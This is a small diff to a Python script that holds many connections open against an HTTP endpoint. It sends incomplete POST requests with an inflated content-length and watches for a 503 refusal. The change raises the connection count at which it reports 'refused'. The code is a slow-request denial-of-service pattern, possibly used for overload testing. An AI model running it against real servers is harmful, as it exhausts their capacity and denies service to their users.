@@ -118,7 +118,7 @@ while True:
         s = connect(dear * 20 if total % 3 == 0 else b'POST /v1/agents/sleeper/actions HTTP/1.1\\r\\nhost: x\\r\\ncontent-length: 99999999\\r\\n')
         total += 1
         held.append(s)
-        if not told and total > 100 and s.recv(12) == b'HTTP/1.1 503':
+        if not told and total > 300 and s.recv(12) == b'HTTP/1.1 503':
             told = True
             print('refused', flush=True)
     except OSError:
